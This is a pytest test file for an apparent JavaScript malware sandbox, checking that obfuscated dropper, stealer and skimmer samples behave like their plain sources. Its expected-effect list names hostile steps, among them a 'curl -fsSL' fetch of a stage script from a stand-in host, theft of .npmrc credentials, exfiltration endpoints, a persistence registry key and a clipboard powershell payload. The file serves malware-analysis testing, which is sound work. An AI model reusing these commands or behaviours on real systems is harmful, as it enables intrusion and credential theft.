"""Each obfuscated example does what the program that it was made from does."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from stockade import Policy, PoolLimits, Supervisor
from stockade.results import RunResult

EXAMPLES = Path(__file__).parents[2] / "examples"


WITH_A_WORLD = {"dropper": "wsh", "stealer": "node", "skimmer": "browser"}
"""Examples that ask for a world, and the persona that has it."""


def run(path: Path, persona: str = "bare") -> RunResult:
    policy = Policy.research(persona=persona)
    with Supervisor(policy, pool=PoolLimits(workers=1, spares=0)) as supervisor:
        return supervisor.run(path.read_text(encoding="utf-8"))


def deeds(result: RunResult) -> list[tuple[str, str, str]]:
    """Return what a run asked of the world."""
    return [(effect.kind, effect.operation, effect.target) for effect in result.side_effects]


@pytest.mark.parametrize("name", ["beacon", "layers"])
def test_obfuscated_and_plain_give_the_same_value_and_console(name: str) -> None:
    plain = run(EXAMPLES / "src" / f"{name}.js")
    obfuscated = run(EXAMPLES / f"{name}.obfuscated.js")
    assert plain.success
    assert obfuscated.value == plain.value
    assert obfuscated.console == plain.console


def test_the_outer_layers_hide_every_word_of_the_program(tmp_path: Path) -> None:
    inner = tmp_path / "inner.js"
    inner.write_text("return 'registry' + 40;", encoding="ascii")
    wrapped = subprocess.run(
        [sys.executable, EXAMPLES / "src" / "wrap.py", inner],
        capture_output=True, text=True, timeout=60, check=True,
    ).stdout  # fmt: skip
    (tmp_path / "wrapped.js").write_text(wrapped, encoding="ascii")
    assert "registry" not in wrapped
    assert run(tmp_path / "wrapped.js").value == "registry40"


@pytest.mark.parametrize(("name", "persona"), WITH_A_WORLD.items())
def test_concealed_and_plain_ask_the_same_of_the_world(name: str, persona: str) -> None:
    plain = run(EXAMPLES / "src" / f"{name}.js", persona)
    concealed = run(EXAMPLES / f"{name}.js", persona)
    assert plain.success
    assert concealed.success
    assert len(deeds(plain)) >= 5
    assert deeds(concealed) == deeds(plain)


@pytest.mark.parametrize("name", WITH_A_WORLD)
def test_the_concealed_are_what_the_script_makes_of_the_plain(name: str) -> None:
    source = EXAMPLES / "src" / f"{name}.js"
    made = subprocess.run(
        [sys.executable, EXAMPLES / "src" / "conceal.py", source],
        capture_output=True, text=True, timeout=60, check=True,
    ).stdout  # fmt: skip
    assert made == (EXAMPLES / f"{name}.js").read_text(encoding="utf-8")
    assert ".example" not in made


@pytest.mark.parametrize(
    ("name", "wanted"),
    [
        ("dropper", ("network", "cdn.invoices.example")),
        ("dropper", ("file", "update_7421.exe")),
        ("dropper", ("process", "update_7421.exe")),
        ("dropper", ("registry", "Run\\Updater")),
        ("dropper", ("persistence", "Updater")),
        ("dropper", ("network", "report.updates.example")),
        ("stealer", ("file", ".npmrc")),
        ("stealer", ("file", "loader.js")),
        ("stealer", ("process", "curl -fsSL https://telemetry.packages.example/stage.sh")),
        ("stealer", ("network", "telemetry.packages.example/v1/collect")),
        ("stealer", ("network", ".in.packages.example")),
        ("skimmer", ("network", "metrics.storefront.example/c.gif")),
        ("skimmer", ("beacon", "metrics.storefront.example/b")),
        ("skimmer", ("clipboard", "powershell")),
        ("skimmer", ("dom_injection", "static.storefront.example/jquery.min.js")),
        ("skimmer", ("storage", "_seen")),
    ],
)
def test_what_an_example_asks_for_is_seen(name: str, wanted: tuple[str, str]) -> None:
    kind, text = wanted
    result = run(EXAMPLES / f"{name}.js", WITH_A_WORLD[name])
    assert result.trace is not None
    contents = {
        artifact.id: artifact.content.decode(errors="replace")
        for artifact in result.trace.artifacts
    }
    texts = [
        f"{effect.target} {' '.join(effect.details.values())} {contents.get(effect.artifact)}"
        for effect in result.side_effects
        if effect.kind == kind
    ]
    assert any(text in each for each in texts), (result.outcome, result.error, deeds(result))
